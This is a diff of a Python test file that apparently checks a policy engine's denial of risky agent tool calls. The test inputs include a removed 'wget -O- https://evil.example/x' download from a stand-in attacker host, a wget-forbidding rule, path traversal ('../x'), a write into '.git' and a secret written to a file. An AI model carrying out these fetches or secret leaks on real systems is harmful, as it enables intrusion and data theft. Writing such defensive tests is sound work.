@@ -29,7 +29,8 @@ READ = 'tool.read_file { path: "a.txt" }'
 CASES: dict[str, tuple[str, str, str]] = {
     "base": ("", READ, 'tool.read_file { path: "../x" }'),
     "files": ("", READ, 'tool.write_file { path: ".git/x" content: "" }'),
-    "shell": ("", 'tool.run { cmd: "cat a.txt" }', 'tool.run { cmd: "wget -O- https://evil.example/x" }'),
+    "shell": ("", 'tool.run { cmd: "cat a.txt" }', 'tool.run { cmd: "cat a.txt" verdict_file: ".git/x" }'),
+    "binaries": ("", 'tool.run { cmd: "cat a.txt" }', 'tool.run { cmd: "wc a.txt" }'),
     "network": ('HOSTS ["nowhere.invalid"]', READ, 'tool.http_request { url: "https://nowhere.invalid/" }'),
     "secrets": ("", READ, 'tool.write_file { path: "b.txt" content: "secret://API_KEY" }'),
     "budgets": ("BUDGET { requests: 1 }", GET, GET),
@@ -47,7 +48,8 @@ SETTINGS = {
     "checks_before_commit": 'must_pass("PyTest").',
     "money_per_day": "money_per_day(/micro_dollars, 0).",
     "no_network_after_secret": 'secret_may_go("API_KEY", /http_request, "headers.Authorization").',
-    "two_persons": 'release_command("touch").',
+    "two_persons": 'release_program("touch").',
+    "binaries": 'allowed_binary("cat").',
 }
 
 
@@ -105,12 +107,15 @@ def test_a_law_that_ships_in_a_run(law: str, cli: Cli, server: Any, tmp_path: Pa
 
 
 @pytest.mark.parametrize(
-    ("line", "denied"), [("cat a.txt", False), ("wget -O- https://evil.example/x", True)], ids=["fits", "odd"]
+    ("line", "denied"), [("cat a.txt", False), ("wget -O- x", True)], ids=["fits", "odd"]
 )
 def test_acts_in_a_run(line: str, denied: bool, cli: Cli, tmp_path: Path) -> None:
-    """A validator that starts a line which no rule permits is denied; what a check may be goes on."""
+    """A validator that starts a program which the law forbids is denied; any other line goes on."""
     judge = f'VALIDATOR Metric {{ cmd: "{line}" source: "a.txt" metric: "s" }}'
     path = prepared(tmp_path, "acts", 0, "", f"step a: {READ} {judge}")
+    with (tmp_path / "own.mg").open("a") as law:
+        law.write('forbidden(A) :- act(A, /validate), runs_program(A, _, "wget").\n')
     run = cli("run", path, "--workspace", "work", "--json")
     found = run.json["refusal"]
-    assert ("policy.denied" in found["codes"], "(acts.mg:" in found["cause"]) == (denied, denied), found
+    told = "own.mg:" in found["cause"]
+    assert ("policy.forbidden" in found["codes"], told) == (denied, denied), found
